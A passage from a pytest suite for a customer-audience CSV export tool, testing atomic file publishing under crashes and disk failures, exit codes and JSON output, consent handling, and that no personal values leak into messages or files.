    ("files: manifest written", 1),
    ("run ended", 1),
]


# each point has its own death in test_export_faults.py, with a network beside the files
@pytest.mark.slow
def test_killed_anywhere_each_file_is_old_or_new_and_a_rerun_converges(
    own: Shop, tmp_path: Path
) -> None:
    ledger = own.folder / "ledger.duckdb"
    assert own.export().code == 0
    old = own.files()
    shutil.copytree(own.out, tmp_path / "old")
    shutil.copy(ledger, tmp_path / "old.ledger")
    for table in ("audiences", "audience_members", "audience_exclusions"):
        own.change(f"delete from main.{table} where audience = '{MEMBER}'")
    own.erase(*own.customers("win_back")[:3])
    for name in ("first_purchase_coupon", "purchase_frequency"):
        own.erase(own.customers(name)[0])
    assert own.export().code == 0
    new = own.files()
    assert len({name for name in new if new[name] != old[name]}) >= 4
    command = ["run", "--database", str(own.database), "--out", str(own.out)]
    for where, number in FILE_POINTS:
        shutil.rmtree(own.out)
        shutil.copytree(tmp_path / "old", own.out)
        shutil.copy(tmp_path / "old.ledger", ledger)
        code = killed_at(where, number, [*command, "--max-age-days", "any"])
        assert code == -9, (where, number)
        left = {name: text for name, text in own.files().items() if name[0] != "."}
        for name, text in left.items():
            assert text in (old.get(name), new.get(name)), (where, number, name)
        assert left.keys() | {f"{MEMBER}.csv"} == old.keys(), (where, number)
        assert own.export().code == 0, (where, number)
        assert own.files() == new, (where, number)


def test_a_full_disk_leaves_the_old_files(own: Shop) -> None:
    assert own.export().code == 0
    before = own.files()
    own.erase(*own.customers("win_back")[:3])
    script = (
        "import resource, signal, sys;"
        "from customer_segments.exporting import export_audiences as e;"
        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN);"
        "resource.setrlimit(resource.RLIMIT_FSIZE, (8192, 8192));"
        "sys.exit(e.main(sys.argv[1:]))"
    )
    command = ["run", "--database", str(own.database), "--out", str(own.out)]
    done = subprocess.run(
        [sys.executable, "-c", script, *command, "--max-age-days", "any"],
        cwd=ROOT,
        check=False,
        capture_output=True,
        text=True,
    )
    assert done.returncode == 1
    assert "no space is left" in done.stderr and "Traceback" not in done.stderr
    assert len(done.stderr.splitlines()) == 1
    assert own.files() == before
    assert own.export().code == 0


@pytest.mark.few(1)
@pytest.mark.parametrize(
    ("number", "says"),
    [(errno.ENOSPC, "no space is left"), (errno.EROFS, "cannot be written"),
     (errno.EIO, "Input/output error")],
)  # fmt: skip
def test_a_disk_that_fails_leaves_the_old_files(
    own: Shop, monkeypatch: pytest.MonkeyPatch, number: int, says: str
) -> None:
    assert own.export().code == 0
    before = own.files()
    own.erase(*own.customers("win_back")[:3])

    def fails(descriptor: int) -> None:
        raise OSError(number, os.strerror(number))

    with monkeypatch.context() as patch:
        patch.setattr(os, "fsync", fails)
        outcome = own.export()
    assert outcome.code == 1 and says in outcome.err
    assert len(outcome.err.splitlines()) == 1
    assert own.files() == before


def test_a_folder_that_cannot_be_made_is_one_line(own: Shop) -> None:
    own.out = Path("/proc/audiences")
    outcome = own.export()
    assert outcome.code == 1 and len(outcome.err.splitlines()) == 1


@pytest.mark.few(1)
@pytest.mark.parametrize(
    ("spoil", "says"),
    [
        (lambda text: text + b"x,\n", "could not be written"),
        (lambda text: b"x" + text, "header"),
        (lambda text: text.rpartition(b"\n")[0].rpartition(b"\n")[0], "otherwise"),
        (lambda text: text.replace(b"+8210", b"+8211", 1), "otherwise"),
    ],
)
def test_a_file_that_reads_back_otherwise_is_not_published(
    own: Shop,
    monkeypatch: pytest.MonkeyPatch,
    spoil: Callable[[bytes], bytes],
    says: str,
) -> None:
    copy_rows = file_forms.copy_rows

    def spoilt(path: Path, *arguments: Any) -> None:
        copy_rows(path, *arguments)
        written = temporary(path)
        written.write_bytes(spoil(written.read_bytes()))

    monkeypatch.setattr(file_forms, "copy_rows", spoilt)
    outcome = own.export()
    assert outcome.code == 1 and says in outcome.err
    assert own.files() == {}


# --- what is said


def test_the_table_is_plain_in_a_pipe(own: Shop) -> None:
    outcome = own.export()
    assert "win_back" in outcome.out and "no_consent" in outcome.out
    assert "\x1b" not in outcome.out and outcome.err == ""


def test_json_is_for_schedulers(own: Shop) -> None:
    content = json.loads(own.export("--format", "json").out)
    assert content["exit_code"] == 0
    assert content["audiences"] == own.manifest()
    own.change("update main.audiences set min_rows = 999999")
    content = json.loads(own.export("--format", "json").out)
    assert content["exit_code"] == 3 and "min_rows" in content["errors"][0]


def test_help_lists_every_exit_code(capsys: pytest.CaptureFixture[str]) -> None:
    assert export_audiences.main(["--help"]) == 0
    said = capsys.readouterr().out
    for code in ("0 ", "1 ", "2 ", "3 ", "4 ", "6 ", "75 "):
        assert f"\n  {code}" in said


def test_wrong_usage_is_2(capsys: pytest.CaptureFixture[str]) -> None:
    assert export_audiences.main(["run", "--max-age-days", "-1"]) == 2
    assert export_audiences.main(["run", "--nonsense"]) == 2


def break_cast(own: Shop) -> None:
    own.change(
        "create or replace view raw.consents as select customer_id, channel, purpose,"
        f" status, (case when random() < 2 then '{CANARY}' end)::timestamp as"
        " changed_at, now()::timestamp as loaded_at, '' as source_file,"
        " 1::bigint as source_row from (select '1' as customer_id, '' as channel,"
        " '' as purpose, '' as status) as one"
    )


def break_guard(own: Shop) -> None:
    own.change("update main.audiences set max_rows = 1")


def break_consent(own: Shop) -> None:
    own.freeze()
    plant(own, "withdrawn")


def break_counts(own: Shop) -> None:
    own.change("delete from main.audience_members where audience = 'win_back'")


def break_name(own: Shop) -> None:
    own.change(f"update main.audiences set audience = '{CANARY}' where channel = 'sms'")


def break_row(own: Shop) -> None:
    own.add_members((CANARY, "+821099998888", "c"), ("a\x07", "+821099997777", "c"))
    own.change("update main.audiences set max_removed_share = 1")


def break_nothing(own: Shop) -> None:
    own.erase(own.customers("win_back")[0])


@pytest.mark.few(3)
@pytest.mark.parametrize(
    ("breakage", "code"),
    [(break_nothing, 0), (break_cast, 1), (break_name, 2), (break_guard, 3),
     (break_consent, 3), (break_row, 4), (break_counts, 6)],
)  # fmt: skip
def test_no_personal_value_is_ever_said(
    own: Shop, breakage: Callable[[Shop], None], code: int
) -> None:
    assert own.export().code == 0
    breakage(own)
    secrets = {
        str(value)
        for row in own.warehouse.query(
            "select customer_id, identifier from main.audience_members"
        )
        for value in row
    } | {CANARY, "canary"}
    for form in ("table", "json"):
        outcome = own.export("--format", form)
        assert outcome.code == code
        said = outcome.out + outcome.err + (own.out / "manifest.json").read_text()
        said += (own.out / ".lock").read_text()
        assert "Traceback" not in said
        assert [one for one in secrets if one in said] == []


def test_an_unexpected_error_says_type_and_place_only(
    own: Shop, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fails(*arguments: object) -> None:
        raise ValueError(CANARY)

    monkeypatch.setattr("customer_segments.exporting.export.judge", fails)
    outcome = own.export()
    assert outcome.code == 1
    assert outcome.err.startswith("error: unexpected: ValueError at test_export")
    assert CANARY not in outcome.err and "Traceback" not in outcome.err


def test_a_wish_that_cannot_be_read_stops_the_export_until_it_is_delivered_again(
    own: Shop,
) -> None:
    customer = own.customers("news_to_all")[0]
    own.consent(f"{customer},email,ad,withdrawn,2026-07-01T01:00:00Z,too,long")
    refused = own.export()
    assert refused.code == 3
    assert "1 records of consents could not be read" in refused.err
    assert not (own.out / "news_to_all.csv").exists()
    (file,) = (own.warehouse.raw / "consents").glob("*.csv")
    broken = file.read_text(encoding="utf-8")
    own.consent(f"{customer},push,ad,granted,2026-07-01T01:00:00Z")
    assert own.export().code == 3
    file.write_text(broken.replace(",too,long", ""), encoding="utf-8")
    own.warehouse.load(loaded_at="2026-07-01T06:00:00+00:00")
    assert own.export().code == 0
    assert customer not in [row[1] for row in own.rows("news_to_all")]
